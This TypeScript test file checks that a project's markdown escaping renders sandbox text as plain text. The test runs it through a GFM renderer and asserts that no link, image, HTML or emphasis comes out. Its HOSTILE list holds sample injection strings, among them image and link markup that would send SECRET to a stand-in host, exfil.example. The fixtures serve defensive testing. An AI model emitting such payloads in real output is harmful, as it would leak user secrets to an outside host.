// What the export's escaping renders to, through a real GFM renderer (micromark with its GFM
// extension, the reference implementation of CommonMark and GFM in JavaScript): sandbox text set
// as prose (inlineText, quotedText), as a code span or in a fence comes out as the same text and
// never as a link, an autolink, an image, raw HTML or emphasis. Both directions: the words stay
// readable, character for character.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { codeSpan, fence, inlineText, quotedText } from '../../src/persistence/markdown.js'

const render = (md: string) => micromark(md, { extensions: [gfm()], htmlExtensions: [gfmHtml()] })

// Rendered HTML back to its text: tags dropped, the few entities micromark writes decoded.
const textOf = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')

const HOSTILE = [
  'see https://exfil.example/c?d=SECRET or www.exfil.example/w?d=SECRET',
  'HTTP://EXFIL.EXAMPLE/?d=SECRET and WWW.EXFIL.EXAMPLE/?d=SECRET',
  'mail SECRET@exfil.example or mailto:SECRET@exfil.example or xmpp:SECRET@exfil.example',
  'ftp://exfil.example/SECRET and (https://exfil.example/SECRET) and *www.exfil.example/SECRET*',
  '![x](https://exfil.example/SECRET.png) [x](https://exfil.example/?SECRET) <https://exfil.example/SECRET>',
  '<img src=https://exfil.example/SECRET> <b>SECRET</b> &lt; **bold** _em_ ~~del~~ `code`',
  '[x]: https://exfil.example/SECRET',
]

test('prose from the sandbox renders as its own text: no link, autolink, image, HTML or emphasis', () => {
  for (const text of HOSTILE) {
    for (const md of [inlineText(text), quotedText(text)]) {
      const html = render(md)
      assert.doesNotMatch(html, /<(a|img|b|strong|em|del|code)\b/, `${text}\n→ ${md}\n→ ${html}`)
      assert.equal(textOf(html).replace(/\s+/g, ' ').trim(), text, `${text} reads as written`)
    }
  }
})

test('a code span and a fence hold sandbox text as code, unlinked, whatever backticks it holds', () => {
  for (const text of HOSTILE) {
    const span = render(codeSpan(`${text} \`\`\` end`))
    assert.doesNotMatch(span, /<a\b|<img\b/, span)
    assert.match(span, /<code>/)
    const block = render(fence(`${text}\n\`\`\`\n${text}`, 'text'))
    assert.doesNotMatch(block, /<a\b|<img\b/, block)
    assert.equal((block.match(/<pre>/g) ?? []).length, 1, 'one code block: the fence held')
  }
})
